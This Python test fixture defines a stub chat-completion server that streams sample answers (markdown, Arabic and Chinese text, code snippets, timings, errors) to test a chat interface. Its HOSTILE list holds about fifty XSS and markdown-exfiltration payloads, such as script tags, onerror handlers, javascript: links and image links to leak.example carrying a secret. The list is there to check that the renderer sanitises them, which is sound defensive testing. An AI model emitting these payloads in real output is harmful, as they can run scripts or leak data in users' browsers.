"""Answers of the stub: what a model writes, as events of the API."""

import json
import re

THOUGHTS = """The user asks about **vaquitas**. Let me recall:

- a porpoise of the Gulf of California
- first described in 1958

I should answer with a table and a short program."""

MARKDOWN = """# The vaquita

The *vaquita* is the **smallest** cetacean; see [the list](https://example.org/list "Red List"). Its mass is about $m = 43\\,\\text{kg}$, and

$$E = \\int_0^T P(t)\\,dt \\approx \\sum_{i=1}^{n} P_i\\,\\Delta t$$

| quantity | value |
|---|---:|
| length | 1.5 m |
| known since | 1958 |

1. Count them:
   - by sound
   - by sight
2. Protect them.

- [x] found
- [ ] safe

> There are few left.

```rust
/// Energy of a token in joules.
fn energy(power: &[f32], seconds: f32) -> Option<f32> {
    let mean = power.iter().sum::<f32>() / power.len() as f32; // watts
    (!power.is_empty()).then(|| mean * seconds)
}
```

```python
def fib(n: int) -> int:
    \"\"\"The n-th number.\"\"\"
    return n if n < 2 else fib(n - 1) + fib(n - 2)
```

It costs $5 and $6. Done."""

ARABIC = """الفاكيتا أصغر الحيتان في العالم، وتعيش في خليج كاليفورنيا.

- طولها 1.5 متر
- وزنها 43 كيلوغرامًا

This paragraph is English.

```python
print("left to right")
```"""

CHINESE = """## 小头鼠海豚

小头鼠海豚是世界上**最小**的鲸类动物，只生活在加利福尼亚湾。

| 项目 | 数值 |
|---|---|
| 体长 | 1.5 米 |
| 体重 | 43 千克 |

1. 它们数量极少。
2. 主要威胁是刺网。"""

# One pixel.
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="

TIMINGS = {
    "cache_n": 96,
    "prompt_n": 32,
    "prompt_ms": 400.0,
    "prompt_per_second": 80.0,
    "predicted_n": 120,
    "predicted_ms": 12000.0,
    "predicted_per_second": 10.0,
    "energy": {"joules": 51.6, "joules_per_token": 0.43, "meter": "rapl"},
    "experts": {"hits": 900, "misses": 100, "bytes_read": 123456789},
}

# Code that a highlighter could lose a character of: it ends in the middle, its quotes do not match, it has other scripts.
SNIPPETS = {
    "bash": "for f in *.txt; do echo \"${f%.txt}\" # it's\ndone",
    "c": "#include <stdio.h>\nint main(void) { return 'a' + 0x1F; /* open",
    "c++": "template <typename T> auto f(T&& x) -> decltype(x); // \"",
    "csharp": "var s = $\"{x}\"; public async Task F() => await G();",
    "css": "@media print { a:hover { color: #fff; --x: 1px } }",
    "diff": "@@ -1 +1 @@\n-old\n+new\n same",
    "go": "func f() (n int, err error) { s := `raw\nstring`; return",
    "html": "<!doctype html><a href=\"x\" title='y'>&amp; text</a> <unclosed",
    "java": "@Override public record P(int x) { String s = \"é\"; }",
    "javascript": "const f = async x => `a ${x} b`; // ünï",
    "json": "{\"key\": [1, -2.5e3, true, null, \"open",
    "kotlin": "fun main() { val s = \"\"\"raw\"\"\"; println(s) }",
    "lua": "local t = { [[long\nstring]], 1 } --[[ open",
    "makefile": "all: $(OBJ)\n\tcc -o $@ $< # link\nCC ?= gcc",
    "markdown": "# Title\n- **bold** `code`\n> quote",
    "php": "<?php echo $x->f(\"a\"); # end ?>",
    "python": "@dec\ndef f(x): return f\"{x!r}\" + r'\\d' # '''",
    "ruby": "class A; def f(x) = @x ||= :sym; end",
    "rust": "fn f<'a>(s: &'a str) -> char { let _ = r#\"raw \"quoted\" \"#; 'x' } // 中",
    "sql": "SELECT count(*) FROM \"t\" WHERE a = 'it''s' -- end",
    "swift": "@main struct A { let s = \"\"\"\nx\n\"\"\" }",
    "toml": "[a.b]\nkey = \"v\" # c\nn = 1_000",
    "ts": "type A<T> = { readonly x?: T }; let y = <const>'z'",
    "yaml": "a: &x [1, two]\n- b: \"c\" # d\n---",
    "constructor": "no such language",
    "": "none \U0001f42c",
}

# Each tries to run code, to request an address, or to leave its place. None may do anything.
HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=\"window.pwned = 2\">",
    "<img src=\"https://leak.example/?q=secret\">",
    "![leak](https://leak.example/?q=secret)",
    "![leak][1]\n\n[1]: https://leak.example/?q=secret",
    "[![leak](https://leak.example/a.png)](https://leak.example/b)",
    "<svg onload=\"window.pwned = 3\"></svg>",
    "<svg><script>window.pwned = 4</script></svg>",
    "<svg><image href=\"https://leak.example/i\"/></svg>",
    "<iframe src=\"https://leak.example/\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned = 5</script>\"></iframe>",
    "<link rel=stylesheet href=\"https://leak.example/s.css\">",
    "<link rel=prefetch href=\"https://leak.example/p\">",
    "<style>@import url(https://leak.example/i.css)</style>",
    "<div style=\"background: url(https://leak.example/bg)\">x</div>",
    "<base href=\"https://leak.example/\">",
    "<meta http-equiv=refresh content=\"0; url=https://leak.example/\">",
    "<form action=\"https://leak.example/\"><button>send</button></form>",
    "<video src=\"https://leak.example/v\" autoplay></video>",
    "<audio src=\"https://leak.example/a\" autoplay></audio>",
    "<object data=\"https://leak.example/o\"></object>",
    "<embed src=\"https://leak.example/e\">",
    "<input autofocus onfocus=\"window.pwned = 6\">",
    "<details open ontoggle=\"window.pwned = 7\">x</details>",
    "<body onload=\"window.pwned = 8\">",
    "<a href=\"javascript:window.pwned = 9\">x</a>",
    "[x](javascript:window.pwned=10)",
    "[x](JaVaScRiPt&colon;window.pwned=11)",
    "[x](data:text/html,<script>parent.pwned=12</script>)",
    "[x](vbscript:msgbox)",
    "[x](/v1/models)",
    "<javascript:window.pwned=13>",
    "[x](<java\nscript:window.pwned=14>)",
    "![x](\" onerror=\"window.pwned=15)",
    "![\"onerror=\"window.pwned=16](https://leak.example/x.png)",
    "[a](https://x.example/\"onmouseover=\"window.pwned=17\")",
    "```html\"><script>window.pwned=18</script>\n<script>window.pwned = 19</script>\n```",
    "`<script>window.pwned = 20</script>`",
    "$\\href{javascript:window.pwned=21}{x}$ $\\url{https://leak.example/}$",
    "$\\includegraphics{https://leak.example/math.png}$",
    "$$\\htmlData{x=y}{a} \\style{background:url(https://leak.example/m)}{b} \\class{x}{c}$$",
    "$\\text{<img src=x onerror=window.pwned=22>}$ $<script>window.pwned=23</script>$",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=24></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=25>\"></noscript>",
    "<span data-image=\"https://leak.example/d\" data-math=\"0\">x</span>",
    "<a id=composer name=box>x</a><form id=frame></form>",
    "| a |\n|---|\n| <img src=https://leak.example/t onerror=window.pwned=26> |",
    "<br onclick=window.pwned=27> <br/onmouseover=window.pwned=28>",
    "<plaintext><textarea><title><xmp>",
    "</div></article></main><h1>Outside</h1>",
]


def deltas(text, size=7):
    return [text[i : i + size] for i in range(0, len(text), size)]


def chunk(delta, finish=None, **rest):
    choice = {"index": 0, "delta": delta, "finish_reason": finish, "logprobs": None}
    return {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "reference-e4", "choices": [choice], **rest}


def ending(finish="stop", timings=TIMINGS):
    yield chunk({}, finish, timings=timings)
    usage = {"prompt_tokens": 128, "completion_tokens": 120, "total_tokens": 248}
    usage["prompt_tokens_details"] = {"cached_tokens": 96}
    usage["completion_tokens_details"] = {"reasoning_tokens": 40}
    yield {**chunk({}), "choices": [], "usage": usage}
    yield b"data: [DONE]\n\n"


def events(question, body, stream):
    """Events of an answer: dictionaries, bytes to be sent as they are, or seconds to wait."""
    yield chunk({"role": "assistant", "content": None})
    word = question.split()[0] if question.split() else ""
    if word == "queue":
        yield b": queued 3, about 40 s\n\n"
        yield 0.5
        yield b": queued 1\n\n"
        yield 0.5
        for processed in (96, 300, 700, 1000):
            progress = {"total": 1000, "cache": 96, "processed": processed, "time_ms": (processed - 96) * 10}
            yield {**chunk({}), "prompt_progress": progress}
            yield 0.35
        yield chunk({"content": "At last."})
    elif word == "slow":
        for i in range(int(question.split()[1])):
            yield chunk({"content": f"word{i} "})
            yield 0.03
    elif word == "drop":
        for i in range(30):
            yield chunk({"content": f"piece{i} “ü” "})
            yield 0.02
    elif word == "think":
        for i in range(400):
            if stream.answer_now:
                break
            yield chunk({"reasoning_content": f"Thought {i}. "})
            yield 0.03
        yield chunk({"content": "Answered."})
    elif word == "hostile":
        for piece in deltas(HOSTILE[int(question.split()[1])]):
            yield chunk({"content": piece})
        if question.endswith("thought"):
            yield chunk({"reasoning_content": HOSTILE[int(question.split()[1])]})
    elif word == "broken":
        yield chunk({"content": "Half of an "})
        yield {"error": {"message": "the model's file cannot be read", "type": "server_error", "param": None, "code": None}}
        return
    elif word == "unmeasured":
        yield chunk({"content": "Fine."})
        yield from ending(timings={**TIMINGS, "energy": "unmeasured"})
        return
    elif word == "picture":
        yield chunk({"content": f"![A dot](data:image/png;base64,{DOT})"})
    elif word == "length":
        yield chunk({"content": "Cut at the"})
        yield from ending("length")
        return
    elif word == "long":
        text = "".join(f"Paragraph {i} of a **long** answer, with `code` and a number.\n\n" for i in range(1500))
        for piece in deltas(text, 64):
            yield chunk({"content": piece})
            yield 0.0005
    elif word == "snippets":
        text = "\n\n".join(f"````{name}\n{code}\n````" for name, code in SNIPPETS.items())
        for piece in deltas(text):
            yield chunk({"content": piece})
    elif body.get("response_format"):
        yield chunk({"content": json.dumps({"answer": 42, "right": True}, indent=2)})
    else:
        text = MARKDOWN
        if re.search(r"[\u0600-\u06ff]", question):
            text = ARABIC
        if re.search(r"[\u4e00-\u9fff]", question):
            text = CHINESE
        if body.get("thinking", {}).get("type") != "disabled":
            for piece in deltas(THOUGHTS):
                yield chunk({"reasoning_content": piece})
                yield 0.01
        for piece in deltas(text):
            yield chunk({"content": piece})
            yield 0.002
    yield from ending()
